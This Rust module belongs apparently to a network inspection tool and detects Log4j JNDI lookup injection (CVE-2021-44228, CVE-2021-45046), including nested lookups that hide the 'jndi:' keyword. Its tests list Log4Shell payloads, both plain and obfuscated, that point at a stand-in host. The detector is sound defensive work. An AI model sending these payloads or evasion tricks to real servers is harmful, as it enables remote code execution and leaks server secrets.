//! Look-ups of Log4j, resolved as far as they hide what they say.

use sockwarden_inspect::Marks;

use super::{Desk, Detector, Side, Text, declare};
use crate::{starts::Start, table::tables, words};

declare! {
    JNDI = "lookup-jndi", Lookup, 1,
        "A look-up of Log4j fetches an object from elsewhere.",
        ["CVE-2021-44228", "CWE-917"];
    NESTED = "lookup-nested", Lookup, 1,
        "Look-ups of Log4j stand inside one another, which hides what they say or gives away what the server knows.",
        ["CVE-2021-45046", "CWE-917"];
}

pub(super) static DETECTOR: Detector = Detector {
    rules: RULES,
    side: Side::Client,
    starts: &[
        Start { marks: &[Marks::BRACE, Marks::DOLLAR], literals: &["${"] },
        Start { marks: &[Marks::COLON], literals: &["jndi:"] },
    ],
    run,
};

/// Protocols that such look-ups go to.
const PROTOCOLS: &[&str] = &["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http", "https"];

tables! {
    /// What look-ups are called.
    NAMES = [("lower:", 1), ("upper:", 1), ("env:", 1), ("sys:", 1), ("ctx:", 1), ("date:", 1), ("java:", 1), ("main:", 1), ("docker:", 1), ("k8s:", 1), ("base64:", 1), ("::-", 1), (":-", 1)];

    /// How those begin that give something away.
    BEGINS = [("${env:", 1), ("${sys:", 1), ("${ctx:", 1), ("${lower:", 1), ("${upper:", 1), ("${java:", 1), ("${::-", 1)];
}

fn run(text: &Text<'_>, desk: &mut Desk) {
    let plain = &mut desk.plain;
    let depth = resolve(text.bytes, plain);
    let whole = memchr::memmem::find(text.bytes, b"${").unwrap_or(0)..text.bytes.len();
    let opens = memchr::memmem::find(text.bytes, b"${").is_some();
    if let Some(at) = words::find(plain, 0, b"jndi:") {
        let rest = plain.get(at + 5..).unwrap_or_default();
        let known = PROTOCOLS.iter().any(|protocol| words::is_at(rest, 0, protocol.as_bytes()));
        let weight = match (opens, known) {
            (true, true) => 10,
            (true, false) => 8,
            (false, true) => 4,
            (false, false) => 1,
        };
        desk.findings.add(&JNDI, weight, whole.clone());
    }
    let looks_up = NAMES.set(text.bytes).count_ones();
    if depth > 1 && looks_up > 0 {
        desk.findings.add(&NESTED, if looks_up > 1 || depth > 3 { 6 } else { 3 }, whole);
    } else if opens && BEGINS.is_in(text.bytes) {
        desk.findings.add(&NESTED, 4, whole);
    }
}

/// Writes a text with its inner look-ups resolved: `${lower:x}`, `${::-x}` and `${env:none:-x}` become `x`. Gives how deep they stand.
fn resolve(bytes: &[u8], plain: &mut Vec<u8>) -> usize {
    plain.clear();
    // Where each look-up that is open begins in what is written.
    let mut open: [usize; 32] = [0; 32];
    let (mut depth, mut deepest, mut at) = (0_usize, 0_usize, 0);
    while let Some(byte) = bytes.get(at) {
        if *byte == b'$' && bytes.get(at + 1) == Some(&b'{') && depth < open.len() {
            if let Some(slot) = open.get_mut(depth) {
                *slot = plain.len();
            }
            depth += 1;
            deepest = deepest.max(depth);
            at += 2;
            continue;
        }
        if *byte == b'}' && depth > 0 {
            depth -= 1;
            let start = open.get(depth).copied().unwrap_or(plain.len()).min(plain.len());
            // The name and the default are short, or they hide nothing.
            let inner = plain.get(start..).unwrap_or_default();
            let kept = if inner.len() <= 256 { value_of(inner) } else { None };
            if let Some(skip) = kept {
                plain.drain(start..start + skip);
            }
            at += 1;
            continue;
        }
        plain.push(*byte);
        at += 1;
    }
    deepest
}

/// Tells how much of a look-up is not its value.
fn value_of(inner: &[u8]) -> Option<usize> {
    if words::is_at(inner, 0, b"jndi:") {
        return None;
    }
    if let Some(default) = memchr::memmem::rfind(inner, b":-") {
        return Some(default + 2);
    }
    inner.iter().position(|byte| *byte == b':').map(|colon| colon + 1)
}

#[cfg(test)]
mod tests {
    use super::resolve;
    use crate::{
        Category,
        testing::{finds, passes},
    };

    #[test]
    fn look_ups_are_resolved() {
        let check = |text: &str, expected: &str| {
            let mut plain = Vec::new();
            resolve(text.as_bytes(), &mut plain);
            assert_eq!(String::from_utf8_lossy(&plain), expected);
        };
        check("${${lower:j}ndi:x}", "jndi:x");
        check("${${::-j}${::-n}${::-d}${::-i}:y}", "jndi:y");
        check("${${env:NONE:-j}ndi${sys:x:-:}ldap://h/a}", "jndi:ldap://h/a");
        check("a}b${", "a}b");
    }

    #[test]
    fn look_ups_that_fetch_are_found() {
        finds(
            Category::Lookup,
            &[
                "${jndi:ldap://x.example/a}",
                "${${lower:j}ndi:${lower:l}dap://x.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x.example}",
                "${jndi:${lower:dns}://x}",
                "$%7Bjndi:ldap://x%7D",
                "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://x}",
            ],
        );
    }

    #[test]
    fn variables_are_left_alone() {
        passes(&[
            "${HOME}",
            "${user.name} and ${x:-5}",
            "the jndi: prefix was the problem",
            "`${a}${b}`",
            "${env}",
        ]);
    }
}
